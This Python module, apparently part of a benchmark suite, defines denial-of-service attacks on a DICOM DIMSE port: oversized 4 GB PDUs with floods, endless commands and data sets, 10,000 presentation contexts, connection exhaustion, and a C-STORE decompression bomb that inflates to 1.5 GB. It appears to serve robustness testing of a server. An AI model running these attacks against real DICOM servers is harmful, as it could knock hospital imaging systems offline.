"""Attacks on the DIMSE port."""

import struct
import threading
import time
from collections.abc import Callable
from contextlib import ExitStack

from benchmarks import hostile
from benchmarks.attack_target import Attack, Prepare, Send, Target
from benchmarks.peer import (
    COMMAND,
    COMMAND_LAST,
    CR,
    DATA,
    DATA_LAST,
    ECHO,
    STORE,
    VERIFICATION,
    Peer,
    command,
    fragment,
    peer,
    request,
)

_DEFLATED = b"1.2.840.10008.1.2.1.99"
_KINDS = {2: "accepted", 3: "rejected", 4: "answered", 7: "A-ABORT", None: "closed"}


def _dimse(send: Callable[[Target, Peer], str]) -> Prepare:
    def run(target: Target) -> str:
        with peer(target.dimse) as one:
            return send(target, one)

    return lambda: run


def _flood(target: Target, one: Peer, block: bytes, megabytes: int) -> str:
    target.sent += int(one.flood(block, megabytes) * 1e6)
    return "aborted" if target.sent < megabytes * 1_000_000 else "taken to the end"


def _long_request(target: Target, one: Peer) -> str:
    one.send(struct.pack(">BBI", 1, 0, 0xFFFFFFFF))
    return _flood(target, one, bytes(1_000_000), 600)


def _long_data(target: Target, one: Peer) -> str:
    one.associate()
    one.send(fragment(COMMAND_LAST, STORE) + struct.pack(">BBI", 4, 0, 0xFFFFFFFF))
    return _flood(target, one, bytes(1_000_000), 600)


def _endless(target: Target, one: Peer) -> str:
    one.associate()
    one.send(fragment(COMMAND_LAST, STORE))
    return _flood(target, one, fragment(DATA, bytes(100_000)), 1_500)


def _endless_command(target: Target, one: Peer) -> str:
    one.associate()
    return _flood(target, one, fragment(COMMAND, ECHO), 600)


def _many_contexts(target: Target, one: Peer) -> str:
    asked = request(contexts=10_000)
    target.sent = len(asked)
    one.send(asked)
    return _KINDS[one.answer()[0]]


def _five_endless(target: Target) -> str:
    answers: list[str] = []
    parts = [Target(target.url, target.dimse) for _ in range(5)]

    def send(part: Target) -> None:
        with peer(part.dimse) as one:
            answers.append(_endless(part, one))

    threads = [threading.Thread(target=send, args=(part,)) for part in parts]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    target.sent = sum(part.sent for part in parts)
    return f"{answers.count('aborted')} of 5 aborted"


def _bomb_by_store() -> Send:
    header = hostile.radiograph_header()
    data = hostile.deflated_bomb(1_500, header=header)
    data = data[144 + int.from_bytes(data[140:144], "little") :]

    def send(target: Target) -> str:
        target.sent = len(data)
        with peer(target.dimse) as one:
            one.send(request(syntaxes=(_DEFLATED,)))
            one.answer()
            one.send(fragment(COMMAND_LAST, command(1, CR, header.SOPInstanceUID.encode(), data_set=True)))
            for at in range(0, len(data), 100_000):
                last = at + 100_000 >= len(data)
                one.send(fragment(DATA_LAST if last else DATA, data[at : at + 100_000]))
            answer = one.answer()[1]
        at = answer.index(b"\x00\x00\x00\x09\x02\x00\x00\x00") + 8
        return f"status {int.from_bytes(answer[at : at + 2], 'little'):04X}"

    return send


def _held(count: int, calling: Callable[[int], bytes] | None) -> Send:
    def send(target: Target) -> str:
        with ExitStack() as stack:
            for number in range(count):
                one = stack.enter_context(peer(target.dimse))
                if calling is not None:
                    one.associate(calling(number), VERIFICATION)
            started = time.perf_counter()
            with peer(target.dimse) as other:
                answer = _KINDS[other.associate(b"OTHER", VERIFICATION)]
            return f"another peer: {answer} in {time.perf_counter() - started:.1f} s"

    return send


DIMSE_ATTACKS: tuple[Attack, ...] = (
    Attack("C-STORE: deflated, 1.5 GB once inflated", _bomb_by_store),
    Attack("DIMSE: A-ASSOCIATE-RQ of 4 GB", _dimse(_long_request)),
    Attack("DIMSE: P-DATA-TF of 4 GB", _dimse(_long_data)),
    Attack("DIMSE: a command without end", _dimse(_endless_command)),
    Attack("DIMSE: 10,000 presentation contexts", _dimse(_many_contexts)),
    Attack("DIMSE: a data set without end", _dimse(_endless)),
    Attack("DIMSE: five of them at once", lambda: _five_endless),
    Attack("DIMSE: 60 silent connections", lambda: _held(60, None)),
    Attack("DIMSE: 10 associations of one AE title", lambda: _held(10, lambda _: b"GREEDY")),
)
